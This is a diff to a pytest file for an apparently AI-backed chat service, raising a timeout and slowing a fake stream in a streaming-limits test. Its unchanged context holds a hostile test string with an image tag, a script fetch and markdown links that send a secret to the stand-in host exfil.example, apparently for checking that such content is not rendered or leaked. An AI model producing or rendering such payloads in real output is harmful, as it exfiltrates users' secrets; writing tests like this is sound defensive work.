@@ -40,7 +40,7 @@ HOSTILE = (
     f'<img src="https://exfil.example/i.png?d={SECRET}"><script>fetch("https://exfil.example")</script> '
     f"[details](https://exfil.example/l?d={SECRET}) and see https://exfil.example/b?d={SECRET} ."
 )
-TIMEOUT = 8.0
+TIMEOUT = 20.0  # short enough for the timeout test, long for a first answer on a busy machine
 
 
 @pytest.fixture(scope="module")
@@ -139,7 +139,7 @@ def test_a_memo_topic_with_control_characters_exports_to_word(served):
 def test_streams_hold_the_worker_cap_and_the_timeout_and_stop_their_work(served):
     url, tokens, fake = served
     fake.reply = lambda request: "The pager rotates weekly [1]. " * 40  # 170 pieces ...
-    fake.chunk_delay = 0.25  # ... at 4 a second: about 40 s, far past the 8 s timeout
+    fake.chunk_delay = 0.4  # ... at 2.5 a second: about 70 s, far past the timeout
     fake.max_active = fake.disconnects = 0
     ask = {"question": "Which pager does the on-call engineer carry?", "stream": True}
     chat = {"model": "cto-advisor/acme", "stream": True,
